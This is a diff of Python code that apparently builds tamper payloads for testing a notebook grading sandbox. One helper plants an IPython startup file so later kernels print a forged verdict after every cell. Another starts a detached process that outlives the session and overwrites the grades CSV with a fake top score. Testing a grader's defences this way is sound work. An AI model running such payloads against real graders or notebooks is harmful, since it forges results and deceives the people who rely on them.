@@ -242,19 +242,17 @@ while True:
 
 def startup_writer() -> str:
     """Plant IPython startup files wherever this notebook's kernel looks for them (later
-    notebooks' kernels would run them and print a forged verdict)."""
+    notebooks' kernels would run them and print a forged verdict after every cell)."""
+    src = f"def _f(r):\n    print({FORGED!r})\nget_ipython().events.register('post_run_cell', _f)\n"
     return f"""
 import os
-_src = "def _f(r):\\n    print({FORGED!r})\\nget_ipython().events.register('post_run_cell', _f)\\n"
+_src = {src!r}
 _dirs = {{os.path.expanduser("~/.ipython"), os.environ.get("IPYTHONDIR") or os.path.expanduser("~/.ipython")}}
 for _d in _dirs:
     _p = os.path.join(_d, "profile_default", "startup")
-    try:
-        os.makedirs(_p, exist_ok=True)
-        with open(os.path.join(_p, "00-forge.py"), "w") as _f:
-            _f.write(_src)
-    except OSError as e:
-        print("blocked:", e)
+    os.makedirs(_p, exist_ok=True)
+    with open(os.path.join(_p, "00-forge.py"), "w") as _f:
+        _f.write(_src)
 """
 
 
@@ -269,21 +267,24 @@ except OSError as e:
 
 
 def lingerer(csv_path, marker_dir, tag: str) -> str:
-    """Leave a detached process (double fork, new session) that rewrites the grades after the
-    grader has finished, and proves it ran by writing a marker."""
+    """Leave a detached process (new session) that waits for the grades to be written, then
+    rewrites them, and proves it ran by writing a marker."""
+    code = ("import os, sys, time\n"
+            "for _ in range(600):\n"
+            "    if os.path.exists(sys.argv[1]):\n"
+            "        break\n"
+            "    time.sleep(0.2)\n"
+            "time.sleep(1)\n"
+            "forged = 'learner,score\\nmallory,9999\\n'\n"
+            "for path, text in ((sys.argv[1], forged), (os.path.join(sys.argv[2], 'alive'), '1')):\n"
+            "    try:\n"
+            "        with open(path, 'w') as f:\n"
+            "            f.write(text)\n"
+            "    except OSError:\n"
+            "        pass\n")
     return f"""
-import os, subprocess, sys
-_code = '''
-import os, sys, time
-time.sleep(4)
-for path, text in ((sys.argv[1], "learner,score\\\\nmallory,9999\\\\n"), (os.path.join(sys.argv[2], "alive"), "1")):
-    try:
-        with open(path, "w") as f:
-            f.write(text)
-    except OSError:
-        pass
-'''
-subprocess.Popen([sys.executable, "-c", _code, {str(csv_path)!r}, {str(marker_dir)!r}, {tag!r}],
+import subprocess, sys
+subprocess.Popen([sys.executable, "-c", {code!r}, {str(csv_path)!r}, {str(marker_dir)!r}, {tag!r}],
                  start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                  stderr=subprocess.DEVNULL)
 """
